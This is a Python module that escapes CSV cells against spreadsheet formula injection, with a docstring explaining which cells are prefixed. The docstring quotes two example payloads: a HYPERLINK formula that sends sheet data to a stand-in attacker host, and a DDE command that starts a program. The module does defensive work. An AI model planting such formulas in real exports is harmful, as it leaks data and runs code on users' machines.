"""CSV cells that a spreadsheet cannot run (CSV or formula injection, OWASP).

Excel, LibreOffice Calc and Google Sheets read a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return as a formula: ``=HYPERLINK("https://evil.example/?"&A1,"Click")`` sends the sheet away,
``+cmd|' /c calc'!A1`` starts a program on an old Excel, ``@SUM(1)`` and ``-2+3`` are computed. Every CSV the app
writes goes through :func:`csv_writer`, which prefixes such a cell with a single quote (OWASP's advice): the
spreadsheet then shows text, never a formula, and :func:`unescape_cell` gives the original text back on import.

Which cells are left alone, precisely:

- A number: an ``int``, ``float`` or ``Decimal`` value, or a text cell that is a plain number in the strict form
  ``[+-]digits[.digits][e[+-]digits]`` (``-2.5``, ``+3``, ``-1e-3``), unless the writer is told its text cells are
  text (``strings_are_text=True``, the inquiry export). A plain number cannot carry a formula: Excel reads
  ``-2.5`` as the number -2.5, so a negative figure in a report stays a number a supervisor can sum.
- Everything else that begins with a trigger is text and is prefixed: ``-2+3`` (Excel would compute 1),
  ``-- see above``, and a phone number such as ``+27 82 555 0101``, which Excel would otherwise try as the formula
  ``=+27 82 555 0101`` and show as an error (``#NULL!``: a space is its intersection operator), while
  ``+27825550101`` would become the number 27825550101 with its ``+`` gone. Prefixed, both show as the text typed.
- A cell that already begins with quotes followed by a trigger (``'=x``) gets one more quote, so that the round
  trip is exact: export then import gives back ``'=x``, not ``=x``.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

# The first characters that make a spreadsheet evaluate a cell (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")


def is_plain_number(text: str) -> bool:
    """True for a number in the strict form a spreadsheet reads as a number and never as a formula."""
    return _PLAIN_NUMBER.fullmatch(text) is not None


def starts_like_formula(text: str) -> bool:
    """True for text a spreadsheet would evaluate: it begins with a trigger and is not a plain number."""
    return text.startswith(FORMULA_TRIGGERS) and not is_plain_number(text)


def escape_cell(value: Any, *, text: bool = False) -> str:
    """The cell as written to CSV. ``text=True``: a text cell is text even when it reads as a number (a phone
    number, a user ID); numbers (int, float, Decimal) are never prefixed."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return str(value)
    cell = str(value)
    if _ESCAPED.match(cell):
        return ESCAPE + cell
    if cell.startswith(FORMULA_TRIGGERS) and (text or not is_plain_number(cell)):
        return ESCAPE + cell
    return cell


def unescape_cell(cell: str) -> str:
    """The text of a cell as :func:`escape_cell` wrote it: one leading quote before a trigger is removed."""
    return cell[1:] if _ESCAPED.match(cell) else cell


class SafeCsvWriter:
    """``csv.writer`` with every cell passed through :func:`escape_cell`."""

    def __init__(self, fh: Any, *, strings_are_text: bool = False, **fmtparams: Any) -> None:
        self._writer = csv.writer(fh, **fmtparams)
        self._text = strings_are_text

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape_cell(v, text=self._text) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh: Any, *, strings_are_text: bool = False, **fmtparams: Any) -> SafeCsvWriter:
    """The one CSV writer of the app: use it wherever a CSV is written (a test greps for ``csv.writer(``)."""
    return SafeCsvWriter(fh, strings_are_text=strings_are_text, **fmtparams)
